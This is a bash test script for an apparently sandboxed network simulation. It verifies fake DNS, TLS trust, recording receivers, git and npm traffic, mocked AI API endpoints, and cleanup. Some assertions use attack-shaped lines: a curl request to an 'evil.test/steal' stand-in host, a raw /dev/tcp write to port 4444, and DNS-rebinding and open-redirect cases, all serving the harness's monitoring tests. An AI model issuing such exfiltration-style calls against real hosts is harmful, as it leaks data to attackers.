#!/usr/bin/env bash
# The world keeps its promises: servers answer as the tables say, receivers record, and nothing is left behind.
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
need_command curl git openssl python3

look_up() { python3 -c 'import socket, sys; print(*sorted({entry[4][0] for entry in socket.getaddrinfo(sys.argv[1], 1, socket.AF_INET)}))' "$1" 2>&1 | tail -1 || true; }
send_udp() { python3 -c 'import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(sys.argv[3].encode(), (sys.argv[1], int(sys.argv[2]))); print(s.recv(99).decode().strip())' "$@"; }

# The user is who he was, without capabilities unless root, and can make user namespaces.
if [ "$(id -u)" -ne 0 ]; then assert_matches "$(grep CapEff /proc/self/status)" '0000000000000000$'; fi
assert_equal "$(unshare --user --map-root-user --net --mount --pid --fork --mount-proc id -u)" 0
unshare --user --map-current-user true

# Names.
assert_equal "$(look_up allowed.test)" 93.184.216.10
assert_equal "$(look_up cname.test)" 93.184.216.10
assert_equal "$(look_up abc.def.evil.test)" 93.184.216.12
assert_equal "$(look_up mixed.test)" "10.7.0.9 93.184.216.10"
assert_equal "$(look_up tcp.test)" 93.184.216.10
receiver_got dns '"transport": "tcp", "name": "tcp.test"'
assert_equal "$(look_up rebind.test)" 93.184.216.10
assert_equal "$(look_up rebind.test)" 127.0.0.1
assert_matches "$(look_up nothing.test)" 'Name or service not known'
assert_matches "$(look_up servfail.test)" 'Temporary failure'
receiver_silent dns '"name": "never-asked\.test"'

# HTTP over TLS: the good certificate is trusted without flags, the bad ones are not.
assert_equal "$(curl -sS https://allowed.test/)" "hello from allowed"
receiver_got allowed '"sni": "allowed.test", "host": "allowed.test", "method": "GET"'
assert_equal "$(python3 -c 'import urllib.request; print(urllib.request.urlopen("https://other.test/").read().decode().strip())')" "hello from other"
for name in selfsigned expired wrongname; do
    assert_exit 60 curl -s "https://$name.test/"
    receiver_got "$name" tls
    receiver_silent "$name" '"event": "request"'
done
assert_contains "$(curl -sS https://allowed.test/echo -d some-body)" '"body": "some-body"'
receiver_got allowed some-body
assert_contains "$(head -c 300000 /dev/zero | curl -sS -T - -H 'Transfer-Encoding: chunked' https://allowed.test/echo)" '"bytes": 300000'
assert_equal "$(curl -sS 'https://allowed.test/big?bytes=5000000' | wc -c)" 5000000
assert_equal "$(curl -sS 'http://allowed.test/chunked?bytes=123456' | wc -c)" 123456
assert_equal "$(curl -sSN 'https://allowed.test/sse?n=3&ms=10' | grep -c '^data: event')" 3
assert_equal "$(curl -sS -o /dev/null -w '%{redirect_url}' 'https://allowed.test/redirect?to=https://evil.test/x')" https://evil.test/x
assert_equal "$(curl -sS https://allowed.test/one https://allowed.test/two | wc -l)" 2
receiver_silent evil
assert_equal "$(curl -sS https://evil.test/steal)" "hello from evil"
receiver_got evil 'GET /steal'
receiver_forget evil
receiver_silent evil
assert_equal "$(curl -sS --globoff "https://[$WORLD_ALLOWED_V6]/" )" "hello from allowed"

# Raw receivers, outside and on the host.
(exec 3<>/dev/tcp/93.184.216.12/4444; echo raw-words >&3; read -r line <&3; assert_equal "$line" "got 10 bytes")
receiver_got evil-raw raw-words
assert_equal "$(send_udp 10.7.0.9 161 datagram-words)" "got 14 bytes"
receiver_got neighbour-raw datagram-words
(exec 3<>/dev/tcp/127.0.0.1/8099; echo loopback-words >&3; read -r _ <&3)
receiver_got host-loopback loopback-words
receiver_silent host-lan
assert_equal "$(send_udp 10.7.0.5 8099 lan-words)" "got 9 bytes"
receiver_got host-lan lan-words
python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\0belljar-world"); s.send(b"abstract-words"); s.recv(9)'
receiver_got host-abstract abstract-words
wire_got 93.184.216.12 tcp
wire_got 10.7.0.9 udp
wire_silent 100.100.100.100

# git, clone and push.
git clone -q https://git.test/sample.git sample
assert_equal "$(git -C sample rev-list --count HEAD)" 2
git -C sample -c user.name=T -c user.email=t@example.com commit -q --allow-empty -m "Third"
git -C sample push -q origin HEAD:refs/heads/third
receiver_got git 'POST /sample.git/git-receive-pack'
assert_equal "$(git ls-remote https://git.test/sample.git refs/heads/third | cut -f1)" "$(git -C sample rev-parse HEAD)"

# npm, from the user's own configuration.
if command -v npm >/dev/null; then
    echo 'registry=https://registry.test/' > "$HOME/.npmrc"
    mkdir package && cd package && echo '{"name":"p","version":"1.0.0"}' > package.json
    NODE_EXTRA_CA_CERTS=$BELLJAR_WORLD_CA npm install --silent --no-fund --no-audit belljar-fixture-bell
    assert_equal "$(node_modules/.bin/belljar-fixture-bell)" "ding clap"
    receiver_got registry 'GET /belljar-fixture-clapper/-/belljar-fixture-clapper-1.0.0.tgz'
    cd ..
fi

# The model server, by its TLS names.
if command -v node >/dev/null; then
    body='{"model":"m","messages":[{"role":"user","content":"ANSWER: scripted words"}]}'
    assert_contains "$(curl -sS https://api.anthropic.com/v1/messages -H 'x-api-key: k' -d "$body")" 'scripted words'
    assert_contains "$(curl -sS https://api.openai.com/v1/chat/completions -H 'Authorization: Bearer k' -d "$body")" 'scripted words'
    assert_contains "$(curl -sS https://api.openai.com/v1/responses -d '{"model":"m","stream":true,"input":"ANSWER: streamed"}')" 'response.completed'
    assert_equal "$(curl -sS -o /dev/null -w '%{http_code}' --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' https://api.openai.com/v1/responses)" 426
fi

# Exit codes and signals pass through a world, and nothing is left of it.
nested() { env -u BELLJAR_WORLD_DIR "$HARNESS/world" "$@"; }
assert_exit 37 nested bash -c 'exit 37'
assert_exit 127 nested no-such-command
before=$(wc -l < /proc/self/mounts)
nested bash -c 'sleep 1234 & disown; echo started' > started
assert_no_process '[s]leep 1234'
assert_equal "$(wc -l < /proc/self/mounts)" "$before"
echo "the world is as it should be"
